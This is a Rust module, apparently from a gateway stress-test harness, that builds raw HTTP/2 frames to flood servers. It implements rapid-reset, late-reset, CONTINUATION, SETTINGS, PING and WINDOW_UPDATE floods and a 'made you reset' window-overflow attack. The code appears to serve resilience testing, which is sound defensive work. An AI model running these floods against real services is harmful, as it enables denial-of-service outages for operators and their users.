//! What HTTP/2 lets a client do for nothing.

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, WriteHalf},
    net::TcpStream,
};
use tokio_rustls::client::TlsStream;

use super::Field;
use crate::{
    frames::{
        self, CONTINUATION, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
        literal,
    },
    gateway::DOMAIN,
    wire,
};

type Read = ReadHalf<TlsStream<TcpStream>>;
type Write = WriteHalf<TlsStream<TcpStream>>;

/// Streams of a connection before the next is opened.
const STREAMS: u32 = 100_000;

/// A connection that has told its settings.
pub(super) async fn open(field: &Field, app: &str, number: u32) -> Option<(Read, Write)> {
    let config = field.gateway.http_2();
    let host = format!("{app}.{DOMAIN}");
    let from = field.own_address(number);
    let io = wire::connect_tls(from, field.gateway.https, config, &host).await;
    let (read, mut write) = tokio::io::split(io.ok()?);
    let mut bytes = frames::PREFACE.to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    frame(&mut bytes, SETTINGS, frames::ACK, 0, &[]);
    write.write_all(&bytes).await.ok()?;
    Some((read, write))
}

/// Reads what comes until nothing does.
async fn read_on(mut read: Read) {
    let mut bytes = vec![0; 16 * 1024];
    while read.read(&mut bytes).await.is_ok_and(|read| read > 0) {}
}

/// Opens connections and writes to each what `next` gives, as long as it takes it.
async fn write_on(field: &Field, number: u32, each: u64, mut next: impl FnMut(u32) -> Vec<u8>) {
    while field.goes_on() {
        let Some((read, mut write)) = open(field, "site", number).await else {
            tokio::task::yield_now().await;
            continue;
        };
        let reading = read_on(read);
        let writing = async {
            let mut stream = 1;
            while field.goes_on() && stream < STREAMS {
                let block = next(stream);
                stream += u32::try_from(each).unwrap_or(1) * 2;
                if write.write_all(&block).await.is_err() || write.flush().await.is_err() {
                    return;
                }
                field.did(each);
            }
        };
        tokio::select! {
            () = reading => {}
            () = writing => {}
        }
    }
}

fn authority(field: &Field) -> String {
    format!("site.{DOMAIN}:{}", field.gateway.https.port())
}

pub(super) async fn rapid_resets(field: Field, number: u32) {
    let host = authority(&field);
    let block = |stream: u32| {
        let mut block = Vec::new();
        for stream in (stream..stream + 100).step_by(2) {
            frames::get(&mut block, stream, &host, "/page", &[]);
            frame(&mut block, RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        }
        block
    };
    write_on(&field, number, 50, block).await;
}

pub(super) async fn late_resets(field: Field, number: u32) {
    let host = authority(&field);
    // Each is reset with the next block, once it has been looked at.
    let block = |stream: u32| {
        let mut block = Vec::new();
        for stream in (stream..stream + 40).step_by(2) {
            if let Some(before) = stream.checked_sub(40) {
                frame(&mut block, RST_STREAM, 0, before, &[0, 0, 0, 8]);
            }
            frames::get(&mut block, stream, &host, "/page", &[]);
        }
        block
    };
    write_on(&field, number, 20, block).await;
}

pub(super) async fn continuations(field: Field, number: u32) {
    let mut piece = Vec::new();
    literal(&mut piece, "x-a", "b");
    let block = |stream: u32| {
        let mut block = Vec::new();
        if stream == 1 {
            frame(&mut block, HEADERS, END_STREAM, 1, &piece);
        }
        for _ in 0..50 {
            frame(&mut block, CONTINUATION, 0, 1, &piece);
        }
        block
    };
    write_on(&field, number, 50, block).await;
}

/// The same frame without end.
async fn repeat(field: &Field, number: u32, kind: u8, payload: &[u8]) {
    let mut one = Vec::new();
    frame(&mut one, kind, 0, 0, payload);
    let block = one.repeat(100);
    write_on(field, number, 100, |_| block.clone()).await;
}

pub(super) async fn settings(field: Field, number: u32) {
    repeat(&field, number, SETTINGS, &[0, 4, 0, 1, 0, 0]).await;
}

pub(super) async fn pings(field: Field, number: u32) {
    repeat(&field, number, PING, &[7; 8]).await;
}

pub(super) async fn window_updates(field: Field, number: u32) {
    repeat(&field, number, WINDOW_UPDATE, &[0, 0, 0, 1]).await;
}

pub(super) async fn made_you_reset(field: Field, number: u32) {
    let host = authority(&field);
    let block = |stream: u32| {
        let mut block = Vec::new();
        for stream in (stream..stream + 100).step_by(2) {
            frames::get(&mut block, stream, &host, "/page", &[]);
            frame(
                &mut block,
                WINDOW_UPDATE,
                0,
                stream,
                &[0x7f, 0xff, 0xff, 0xff],
            );
        }
        block
    };
    write_on(&field, number, 50, block).await;
}
